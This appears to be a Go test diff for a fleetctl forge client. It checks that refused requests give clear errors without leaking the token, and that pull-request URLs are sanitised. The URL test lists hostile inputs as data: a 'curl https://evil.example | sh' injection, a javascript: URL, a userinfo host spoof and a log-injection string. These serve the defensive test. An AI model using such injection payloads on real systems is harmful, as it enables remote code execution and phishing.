@@ -3,6 +3,7 @@ package forge
 import (
 	"encoding/json"
 	"encoding/pem"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -11,6 +12,7 @@ import (
 	"testing"
 
 	"github.com/fleetctl/fleetctl/pkg/api/v1alpha1"
+	"github.com/fleetctl/fleetctl/pkg/diag"
 )
 
 // answering is what Open needs for a forge whose lists and other answers are what these return.
@@ -137,6 +139,65 @@ func TestAnswersThatAreNone(t *testing.T) {
 					t.Errorf("an error of %d bytes", n)
 				}
 			})
+		}
+	}
+}
+
+// A forge that has a problem, takes no more requests or wants a login: the error says so, and what to do. What the forge repeats of the
+// request has no token.
+func TestForgeRefuses(t *testing.T) {
+	for _, kind := range v1alpha1.ForgeTypes() {
+		for status, want := range map[int][2]string{
+			http.StatusOK:                  {`answers with the web page "Sign in"`, "wants a login"},
+			http.StatusTooManyRequests:     {"429", "again in some minutes"},
+			http.StatusInternalServerError: {"500", "or a proxy before it, has a problem"},
+			http.StatusBadGateway:          {"502", "or a proxy before it, has a problem"},
+			http.StatusForbidden:           {"403", "right to write pull requests"},
+		} {
+			t.Run(string(kind)+" "+http.StatusText(status), func(t *testing.T) {
+				server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+					w.Header().Set("Content-Type", "text/html")
+					w.WriteHeader(status)
+					_, _ = fmt.Fprintf(w, "<html><title>Sign in</title>you sent %v", r.Header)
+				}))
+				defer server.Close()
+				remote, err := url.Parse(server.URL + "/platform/fleet.git")
+				if err != nil {
+					t.Fatal(err)
+				}
+				_, err = Find(t.Context(), Options{
+					Type: kind, Remote: remote, Token: "s3cret",
+					CA: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}),
+				}, Request{Branch: "fleetctl/x", Base: "main"})
+				if err == nil || !strings.Contains(err.Error(), want[0]) || !strings.Contains(diag.Hint(err), want[1]) {
+					t.Errorf("%v (%s)", err, diag.Hint(err))
+				}
+				for _, never := range []string{"s3cret", "<title>"} {
+					if strings.Contains(fmt.Sprint(err), never) {
+						t.Errorf("%q is in %v", never, err)
+					}
+				}
+			})
+		}
+	}
+}
+
+// What a forge calls the address of a pull request is the address of a page, or it is not shown.
+func TestAddressOfAPullRequest(t *testing.T) {
+	remote := &url.URL{Scheme: "ssh", Host: "git.example.com:2222", Path: "/platform/fleet.git"}
+	const repository = "https://git.example.com/platform/fleet"
+	for raw, want := range map[string]string{
+		"https://git.example.com/platform/fleet/pulls/1":       "https://git.example.com/platform/fleet/pulls/1",
+		"https://git.example.com/a b\u202e":                    "https://git.example.com/a%20b%E2%80%AE",
+		"https://git.example.com/a\n::error::x":                repository,
+		"javascript:alert(1)":                                  repository,
+		"1; curl https://evil.example | sh":                    repository,
+		"https://git.example.com@evil.example/1":               repository,
+		"":                                                     repository,
+		"https://git.example.com/" + strings.Repeat("x", 5000): repository,
+	} {
+		if got := (&PullRequest{Number: 1, URL: raw}).linked(remote).URL; got != want {
+			t.Errorf("%.100q: %q, want %q", raw, got, want)
 		}
 	}
 }
